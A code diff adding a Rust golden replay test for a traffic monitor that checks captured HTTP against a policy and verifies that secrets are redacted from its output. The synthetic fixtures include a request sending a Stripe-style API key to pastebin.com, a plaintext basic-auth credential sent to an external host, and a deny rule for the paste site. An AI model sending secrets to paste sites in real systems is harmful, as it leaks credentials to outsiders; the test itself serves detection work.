@@ -1,0 +1,221 @@
+//! Golden replay tests: a recording built from synthetic kernel records (byte-exact
+//! `RecordHeader`s, as the ring buffer delivers them) is replayed through the whole pipeline with
+//! a fixed policy and fingerprint key, and the output must equal the committed golden file line
+//! for line. Regenerate after an intended change with `UPDATE_GOLDEN=1 cargo test -p monitor
+//! --test replay_golden`, and review the diff: it is the user-visible output.
+use std::{path::PathBuf, sync::Arc};
+
+use monitor::{
+    capture::TlsLibraryKind,
+    metrics::Metrics,
+    pipeline::Output,
+    policy::Policy,
+    recording::{LibraryFrame, ProcessFrame, Recorder},
+    replay::{Checks, replay},
+    streams::StreamLimits,
+};
+use monitor_common::{COMM_LEN, HEADER_LEN, RecordHeader, direction, flags, record_kind, source};
+
+const SECOND: u64 = 1_000_000_000;
+const OPENSSL_COOKIE: u64 = 1;
+
+fn raw(kind: u8, tgid: u32, conn: u64, dir: u8, ts: u64, cookie: u64, payload: &[u8]) -> Vec<u8> {
+    let mut comm = [0u8; COMM_LEN];
+    let name: &[u8] = if tgid == 100 {
+        b"billing-worker"
+    } else {
+        b"legacy-cron"
+    };
+    comm[..name.len()].copy_from_slice(name);
+    let head = RecordHeader {
+        timestamp_ns: ts,
+        conn_id: conn,
+        call_len: payload.len() as u64,
+        lost_before: 0,
+        attach_cookie: cookie,
+        tgid,
+        tid: tgid,
+        offset: 0,
+        data_len: payload.len() as u32,
+        kind,
+        direction: dir,
+        source: source::OPENSSL,
+        flags: flags::LAST_CHUNK,
+        uid: 1000,
+        comm,
+    };
+    // SAFETY: a plain-data struct viewed as its bytes, as the kernel writes it.
+    let mut out = unsafe {
+        std::slice::from_raw_parts((&head as *const RecordHeader).cast::<u8>(), HEADER_LEN)
+    }
+    .to_vec();
+    out.extend_from_slice(payload);
+    out
+}
+
+fn exchange(
+    rec: &Recorder,
+    tgid: u32,
+    conn: u64,
+    ts: u64,
+    cookie: u64,
+    request: &str,
+    status: &str,
+) {
+    let response = format!("HTTP/1.1 {status}\r\nContent-Length: 2\r\n\r\nok");
+    rec.record(&raw(
+        record_kind::DATA,
+        tgid,
+        conn,
+        direction::EGRESS,
+        ts,
+        cookie,
+        request.as_bytes(),
+    ))
+    .unwrap();
+    rec.record(&raw(
+        record_kind::DATA,
+        tgid,
+        conn,
+        direction::INGRESS,
+        ts + 3_000_000,
+        cookie,
+        response.as_bytes(),
+    ))
+    .unwrap();
+}
+
+const POLICY: &str = r#"
+version: 1
+settings:
+  discovery: info
+destinations:
+  - id: deny-paste
+    action: deny
+    hosts: [pastebin.com]
+    severity: high
+rate_limits:
+  - id: charges
+    hosts: [api.stripe.com]
+    limit: 1
+    per: 1m
+    burst: 1
+    severity: medium
+"#;
+
+fn build_recording(path: &std::path::Path) {
+    let rec = Recorder::create(path, 1_790_000_000 * SECOND as i128).unwrap();
+    rec.library(&LibraryFrame {
+        cookie: OPENSSL_COOKIE,
+        kind: TlsLibraryKind::Openssl,
+        path: "/usr/lib/x86_64-linux-gnu/libssl.so.3".into(),
+    })
+    .unwrap();
+    for (pid, exe) in [
+        (100, "/opt/billing/worker"),
+        (200, "/usr/local/bin/legacy-cron"),
+    ] {
+        rec.process(&ProcessFrame {
+            pid,
+            executable: Some(exe.into()),
+            container_id: None,
+        })
+        .unwrap();
+    }
+    let stripe_key = "sk_live_51HcQ2bKx9TzW4mPq8RvN3yLd";
+    // Over TLS to its own provider, twice: the second exceeds the rate limit.
+    for (i, conn) in [(0u64, 1u64), (1, 2)] {
+        exchange(
+            &rec,
+            100,
+            conn,
+            (10 + i) * SECOND,
+            OPENSSL_COOKIE,
+            &format!(
+                "POST /v1/charges HTTP/1.1\r\nHost: api.stripe.com\r\nAuthorization: Bearer {stripe_key}\r\nContent-Length: 0\r\n\r\n"
+            ),
+            "200 OK",
+        );
+    }
+    // The same key to a paste site, in the URL.
+    exchange(
+        &rec,
+        100,
+        3,
+        20 * SECOND,
+        OPENSSL_COOKIE,
+        &format!("GET /raw/8f3kd92?api_key={stripe_key} HTTP/1.1\r\nHost: pastebin.com\r\n\r\n"),
+        "200 OK",
+    );
+    // Plaintext (no TLS library) with basic auth to an external host.
+    exchange(
+        &rec,
+        200,
+        4,
+        30 * SECOND,
+        0,
+        "GET /export/users/1234 HTTP/1.1\r\nHost: legacy.example.net\r\nAuthorization: Basic c3luYzpUcjB1YmFkb3IhMjAyNg==\r\n\r\n",
+        "200 OK",
+    );
+    rec.record(&raw(
+        record_kind::PROCESS_EXIT,
+        200,
+        0,
+        direction::NONE,
+        31 * SECOND,
+        0,
+        b"",
+    ))
+    .unwrap();
+    rec.flush().unwrap();
+}
+
+#[test]
+fn replay_matches_the_golden_output() {
+    let dir = std::env::temp_dir().join(format!("monitor-golden-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    let recording = dir.join("golden.rec");
+    build_recording(&recording);
+
+    let mut lines = Vec::new();
+    replay(
+        &recording,
+        StreamLimits::default(),
+        Some(Checks {
+            policy: Policy::from_yaml(POLICY).unwrap(),
+            fingerprint_key: b"golden-test-key-golden-test-key!".to_vec(),
+        }),
+        Arc::new(Metrics::new()),
+        &mut |output: Output| lines.push(serde_json::to_string(&output).unwrap()),
+    )
+    .unwrap();
+    let actual = lines.join("\n") + "\n";
+
+    for secret in [
+        "51HcQ2bKx9TzW4mPq8RvN3yLd",
+        "c3luYzpUcjB1YmFkb3IhMjAyNg",
+        "Tr0ubador!2026",
+    ] {
+        assert!(
+            !actual.contains(secret),
+            "a raw secret reached the output:\n{actual}"
+        );
+    }
+    let golden = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/golden/replay_basic.jsonl");
+    if std::env::var_os("UPDATE_GOLDEN").is_some() {
+        std::fs::write(&golden, &actual).unwrap();
+    }
+    let expected = std::fs::read_to_string(&golden).unwrap_or_else(|e| {
+        panic!(
+            "{}: {e} (run with UPDATE_GOLDEN=1 to create it)",
+            golden.display()
+        )
+    });
+    assert_eq!(
+        actual,
+        expected,
+        "replay output differs from {}",
+        golden.display()
+    );
+    let _ = std::fs::remove_dir_all(&dir);
+}
